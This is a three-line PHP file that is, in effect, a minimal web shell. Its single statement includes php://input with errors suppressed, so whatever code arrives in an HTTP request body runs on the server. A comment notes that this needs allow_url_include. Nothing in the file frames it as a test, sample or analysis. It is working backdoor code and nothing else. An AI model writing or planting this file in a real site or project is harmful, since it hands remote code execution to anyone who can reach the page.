<?php
// Runs the request body as PHP (needs allow_url_include).
@include('php://input');
